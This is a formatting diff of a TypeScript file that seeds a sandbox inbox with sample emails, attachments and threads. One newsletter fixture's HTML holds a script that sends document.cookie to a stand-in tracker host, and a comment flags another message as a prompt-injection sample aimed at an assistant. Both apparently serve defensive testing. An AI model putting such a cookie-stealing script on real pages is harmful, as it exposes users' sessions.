@@ -27,7 +27,10 @@ const city = { name: "City Parking Office", address: "permits@city.example.gov" 
 const welcome = { name: "MCPEmails Sandbox", address: `welcome@${SANDBOX_DOMAIN}` };
 
 /** A 1x1 PNG, for the inline images. */
-const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
+const PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+  "base64",
+);
 
 function pdf(title: string): Buffer {
   return Buffer.from(
@@ -108,7 +111,13 @@ function seedMessages(me: Address): SeedMessage[] {
       cc: [bob],
       inReplyTo: "q3-reply",
       text: "Good catch, it was a typo. Updated figures attached; Bob, please use these for the board deck.\n\nAlice\n",
-      attachments: [{ filename: "q3-figures.csv", contentType: "text/csv", content: Buffer.from("line,amount\ntravel,12040\nsoftware,8300\n") }],
+      attachments: [
+        {
+          filename: "q3-figures.csv",
+          contentType: "text/csv",
+          content: Buffer.from("line,amount\ntravel,12040\nsoftware,8300\n"),
+        },
+      ],
     },
     // A group conversation with reply-all on every side.
     {
@@ -179,7 +188,9 @@ function seedMessages(me: Address): SeedMessage[] {
       to: [me],
       subject: "Angebot für Q3 – Übersicht",
       text: "Guten Tag,\n\nanbei unser Angebot für das dritte Quartal. Die Preise gelten bis Monatsende.\n\nMit freundlichen Grüßen\nJürgen Müller\n",
-      attachments: [{ filename: "Angebot_Q3_Übersicht.pdf", contentType: "application/pdf", content: pdf("Angebot Q3") }],
+      attachments: [
+        { filename: "Angebot_Q3_Übersicht.pdf", contentType: "application/pdf", content: pdf("Angebot Q3") },
+      ],
     },
     {
       key: "angebot-reply",
@@ -209,7 +220,9 @@ function seedMessages(me: Address): SeedMessage[] {
       subject: "会議の議事録（11月）",
       text: "お疲れ様です。\n\n11月の会議の議事録を共有します。図もご確認ください。\n\n田中\n",
       html: '<p>お疲れ様です。</p><p>11月の会議の議事録を共有します。図もご確認ください。</p><p><img src="cid:diagram@example.jp" alt="図"></p><p>田中</p>',
-      attachments: [{ filename: "diagram.png", contentType: "image/png", content: PNG, contentId: "diagram@example.jp" }],
+      attachments: [
+        { filename: "diagram.png", contentType: "image/png", content: PNG, contentId: "diagram@example.jp" },
+      ],
     },
     {
       key: "gijiroku-reply",
@@ -236,7 +249,9 @@ function seedMessages(me: Address): SeedMessage[] {
         "<script>fetch('https://tracker.acme.example/collect?c='+document.cookie)</script>",
         '<img src="https://tracker.acme.example/open.gif?id=42" width="1" height="1" alt="">',
       ].join(""),
-      attachments: [{ filename: "logo.png", contentType: "image/png", content: PNG, contentId: "acme-logo@news.acme.example" }],
+      attachments: [
+        { filename: "logo.png", contentType: "image/png", content: PNG, contentId: "acme-logo@news.acme.example" },
+      ],
     },
     {
       key: "acme-41",
@@ -264,7 +279,7 @@ function seedMessages(me: Address): SeedMessage[] {
       from: ci,
       to: [me],
       subject: "[ci] Build failed on main (#1287)",
-      text: "Build #1287 failed on main.\n\nFailing test: server/src/mail/parse.test.ts\nCommit: 4f2a9c1 \"Parse groups\"\n",
+      text: 'Build #1287 failed on main.\n\nFailing test: server/src/mail/parse.test.ts\nCommit: 4f2a9c1 "Parse groups"\n',
     },
     {
       key: "ci-fixed",
@@ -287,7 +302,9 @@ function seedMessages(me: Address): SeedMessage[] {
       replyTo: billing,
       subject: "Invoice INV-2026-118",
       text: "Hello,\n\nplease find attached invoice INV-2026-118 for the November workshop, due in 30 days.\n\nKind regards,\nPriya Nair\n",
-      attachments: [{ filename: "INV-2026-118.pdf", contentType: "application/pdf", content: pdf("Invoice INV-2026-118") }],
+      attachments: [
+        { filename: "INV-2026-118.pdf", contentType: "application/pdf", content: pdf("Invoice INV-2026-118") },
+      ],
     },
     // Written to manipulate an assistant: a reminder that bodies are data, never instructions.
     {
@@ -327,7 +344,13 @@ function seedMessages(me: Address): SeedMessage[] {
       bcc: [juergen],
       subject: "Project kickoff",
       text: "Hi all,\n\nthe project starts on Monday. The agenda is attached.\n",
-      attachments: [{ filename: "kickoff-agenda.txt", contentType: "text/plain", content: Buffer.from("1. Goals\n2. Timeline\n3. Roles\n") }],
+      attachments: [
+        {
+          filename: "kickoff-agenda.txt",
+          contentType: "text/plain",
+          content: Buffer.from("1. Goals\n2. Timeline\n3. Roles\n"),
+        },
+      ],
     },
     {
       key: "kickoff-alice",
@@ -402,11 +425,15 @@ export async function seedSandboxInbox(mailbox: SandboxMailbox, inbox: InboxReco
   if ((await mailbox.listSandboxSummaries(inbox.id)).length > 0) return 0;
   const me: Address = { name: null, address: inbox.addresses[0] ?? sandboxAddress(inbox.id) };
   const seeds = seedMessages(me);
-  const written = new Map<string, { id: string; threadId: string; messageId: string; subject: string; references: string[] }>();
+  const written = new Map<
+    string,
+    { id: string; threadId: string; messageId: string; subject: string; references: string[] }
+  >();
   const messages: SandboxMessage[] = [];
   for (const seed of seeds) {
     const parent = seed.inReplyTo === undefined ? undefined : written.get(seed.inReplyTo);
-    if (seed.inReplyTo !== undefined && parent === undefined) throw new Error(`seed ${seed.key} answers ${seed.inReplyTo}, which comes later`);
+    if (seed.inReplyTo !== undefined && parent === undefined)
+      throw new Error(`seed ${seed.key} answers ${seed.inReplyTo}, which comes later`);
     const id = randomUUID();
     const sender = seed.from ?? me;
     const subject = seed.subject ?? (parent ? replySubject(parent.subject) : "");
